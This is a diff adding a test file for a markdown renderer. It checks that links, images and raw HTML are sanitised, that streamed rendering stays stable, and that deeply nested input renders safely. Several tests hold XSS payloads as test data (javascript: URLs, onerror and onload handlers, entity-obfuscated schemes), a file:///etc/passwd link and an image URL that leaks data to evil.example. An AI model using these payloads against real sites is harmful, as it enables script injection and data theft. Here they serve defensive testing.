@@ -1,0 +1,205 @@
+import { describe, expect, test } from "bun:test"
+import { Blocks } from "../../src/web/shared/markdown/Blocks.ts"
+import { safeAddress } from "../../src/web/shared/markdown/Address.ts"
+import { elementsOf, named, render, textOf, treeOf } from "./lib/Tree.ts"
+
+const answer = `# Refunds
+
+You get your money back within **five days**, see [the terms](https://example.com/terms).
+
+- first
+- second
+  - nested \`code\`
+
+1. one
+
+2. two
+
+- [x] done
+- [ ] open
+
+| Plan | Price |
+|:-----|------:|
+| Free | 0 |
+
+\`\`\`ts
+const a = 1
+
+const b = "<b>"
+\`\`\`
+
+> A quote
+> of two lines
+
+Ends here.
+`
+
+describe("Markdown", () => {
+  test("renders headings, emphasis, lists, tasks, tables, code and quotes", () => {
+    const tree = render(answer)
+    const names = new Set(elementsOf(tree).map(({ name }) => name))
+    for (const name of ["h2", "p", "strong", "a", "ul", "ol", "li", "table", "th", "td", "pre", "code", "blockquote"]) {
+      expect(names).toContain(name)
+    }
+    expect(named(tree, "ol").map(({ attributes }) => attributes["start"])).toEqual([1])
+    expect(named(tree, "pre").map(textOf)).toEqual(['const a = 1\n\nconst b = "<b>"'])
+    expect(textOf(tree)).toContain("☑ done")
+    expect(textOf(tree)).toContain("☐ open")
+    expect(named(tree, "td").map(({ attributes }) => attributes["data-align"])).toEqual(["left", "right"])
+  })
+
+  test("a table and a code block can be scrolled by keyboard, and code can be copied whole", () => {
+    const tree = render(answer)
+    expect(named(tree, "section").map(({ attributes }) => attributes["tabIndex"])).toEqual([0])
+    expect(named(tree, "pre").map(({ attributes }) => attributes["tabIndex"])).toEqual([0])
+    expect(named(tree, "button").map(({ attributes }) => attributes["text"])).toEqual([
+      'const a = 1\n\nconst b = "<b>"',
+    ])
+  })
+
+  test.each([
+    ["https://example.com/a?b=c", "https://example.com/a?b=c"],
+    ["http://example.com", "http://example.com/"],
+    ["mailto:a@example.com", "mailto:a@example.com"],
+    ["javascript:alert(1)", undefined],
+    ["java\nscript:alert(1)", undefined],
+    [" \u0001javascript:alert(1)", undefined],
+    ["data:text/html,x", undefined],
+    ["vbscript:x", undefined],
+    ["blob:https://example.com/x", undefined],
+    ["file:///etc/passwd", undefined],
+    ["//example.com", undefined],
+    ["/api/admin", undefined],
+    ["#top", undefined],
+    ["https://bank.example@other.example", undefined],
+  ])("an address %p is a link to %p", (href, expected) => {
+    expect(safeAddress(href)).toBe(expected)
+  })
+
+  test("links open apart from the page and tell it nothing, and other addresses stay text", () => {
+    const tree = render("[a](https://a.example) [b](javascript:alert(1)) <https://c.example> [d](/api) www.e.example")
+    expect(
+      named(tree, "a").map(({ attributes }) => [attributes["href"], attributes["rel"], attributes["target"]]),
+    ).toEqual(
+      ["https://a.example/", "https://c.example/", "http://www.e.example/"].map((href) => [
+        href,
+        "noopener noreferrer",
+        "_blank",
+      ]),
+    )
+    expect(textOf(tree)).toBe("a b https://c.example d www.e.example")
+  })
+
+  test("an image is a link with its description, so that nothing is loaded", () => {
+    const tree = render("![A chart](https://evil.example/?q=secret) ![](https://b.example/c.png) ![x](javascript:0)")
+    expect(named(tree, "img")).toEqual([])
+    expect(named(tree, "a").map(textOf)).toEqual(["A chart", "https://b.example/c.png"])
+  })
+
+  test("HTML is text, but for a second line in a cell", () => {
+    const tree = render(
+      '<script>alert(1)</script>\n\nA <b onclick="x()">b</b> <img src=x onerror=y>\n\n|a|\n|-|\n|x<br>y|',
+    )
+    expect(named(tree, "script").concat(named(tree, "b"), named(tree, "img"))).toEqual([])
+    expect(textOf(tree)).toContain("<script>alert(1)</script>")
+    expect(textOf(tree)).toContain('<b onclick="x()">')
+    expect(named(tree, "br")).toHaveLength(1)
+  })
+
+  test("controls that turn the direction of text are removed, and links stand apart from the text around them", () => {
+    const tree = render("Pay \u202Eelpmaxe\u202C [\u2066x\u2069](https://a.example) `\u202Db` \u0000\u0007")
+    expect(textOf(tree)).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u)
+    expect(named(tree, "a").flatMap(({ children }) => children)).toMatchObject([{ name: "bdi" }])
+    expect(named(tree, "p").map(({ attributes }) => attributes["dir"])).toEqual(["auto"])
+  })
+
+  test("only a few elements and attributes ever come of a text", () => {
+    const hostile = [
+      '<a href="https://x.example" style="position:fixed">x</a>',
+      "<style>*{display:none}</style>",
+      '[x](https://a.example "on\'mouseover=alert(1)")',
+      '```"><script>\ncode\n```',
+      "<iframe srcdoc='<script>'></iframe>",
+      "[x]: javascript:alert(1)\n\n[x]",
+      "&lt;script&gt; &#106;avascript:",
+      "[click](&#106;avascript&#58;alert(1))",
+      "<svg/onload=alert(1)>",
+      "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    ].join("\n\n")
+    const allowed = new Set(["class", "dir", "href", "title", "rel", "target", "scope", "start", "tabIndex"])
+    for (const { name, attributes } of elementsOf(render(hostile))) {
+      expect(name).toMatch(/^(?:p|a|bdi|h2|figure|figcaption|span|button|pre|code|section|table|thead|tbody|tr|th|td)$/)
+      if (name === "button") continue
+      for (const attribute of Object.keys(attributes)) {
+        expect(allowed.has(attribute) || /^(?:aria|data)-/.test(attribute)).toBe(true)
+      }
+      if (name === "a") expect(attributes["href"]).toMatch(/^https:/)
+    }
+  })
+
+  test.each([
+    ["10,000 links", "[a](https://a.example) ".repeat(10_000)],
+    ["10,000 links on lines of their own", "https://a.example\n\n".repeat(10_000)],
+    ["quotes in quotes", ">".repeat(100_000)],
+    ["lists in lists", "- ".repeat(50_000)],
+    ["emphasis in emphasis", "**a *b ".repeat(7_000) + "c* d** ".repeat(7_000)],
+    ["brackets", "[".repeat(100_000)],
+    ["links that never end", "[a](".repeat(25_000)],
+    ["backticks", "`".repeat(100_000)],
+    ["a table of 50,000 cells", `|a|b|\n|-|-|\n${"|x|y|\n".repeat(16_000)}`],
+    ["lists that are indented ever deeper", Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n")],
+  ])("%s are rendered without a stack overflow and in seconds at most", (_title, source) => {
+    const start = performance.now()
+    const tree = render(source)
+    expect(performance.now() - start).toBeLessThan(10_000)
+    const depth = (element: typeof tree): number =>
+      1 + element.children.reduce((most, child) => (typeof child === "string" ? most : Math.max(most, depth(child))), 0)
+    expect(depth(tree)).toBeLessThan(40)
+  })
+})
+
+describe("Markdown that is streamed", () => {
+  const streamed = (source: string, size: number) => {
+    const blocks = new Blocks()
+    for (let at = 0; at < source.length; at += size) blocks.add(source.slice(at, at + size))
+    return blocks.add("", true)
+  }
+
+  test.each([1, 2, 3, 7, 50])("looks in the end as if it had come at once, in pieces of %i characters", (size) => {
+    const sources = [
+      answer,
+      "1. a\n\n2. b\n\n3. c\n\ntext\n",
+      "- a\n\n  b\n\n- c\n  ```\n  code\n\n  more\n  ```\n",
+      "Title\n===\n\nOther\n---\n\nText\n",
+      "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nAfter.",
+      "See [one][1] and [two][2].\n\nMore.\n\n[1]: https://a.example\n[2]: https://b.example\n",
+      "```\r\na\r\n\r\nb\r\n```\r\nend",
+      "<div>\n\ntext\n\n</div>\n\n<!-- a\n\nb --> c",
+      "    indented\n\n    code\n\ntext",
+      "\n\n  \n text\n\n\n\n> quote\nlazy\n\n> other",
+    ]
+    for (const source of sources) expect(treeOf(streamed(source, size))).toEqual(render(source))
+  })
+
+  test("does not touch finished blocks again", () => {
+    const blocks = new Blocks()
+    let before: ReturnType<Blocks["add"]> = []
+    const seen = new Map<number, Set<object>>()
+    for (const character of answer.repeat(3)) {
+      before = blocks.add(character)
+      for (const [index, block] of before.entries()) {
+        if (index < before.length - 3) seen.set(block.start, (seen.get(block.start) ?? new Set()).add(block))
+      }
+    }
+    expect(seen.size).toBeGreaterThan(20)
+    for (const objects of seen.values()) expect(objects.size).toBe(1)
+  })
+
+  test("is rendered as the same node for a finished block", () => {
+    const blocks = new Blocks()
+    const first = blocks.add("One.\n\nTwo.\n\nThree.\n\n")
+    const second = blocks.add("Four.\n\n")
+    expect(second.slice(0, 2)).toEqual(first.slice(0, 2))
+    expect(second[0]).toBe(first[0] as NonNullable<(typeof first)[0]>)
+  })
+})
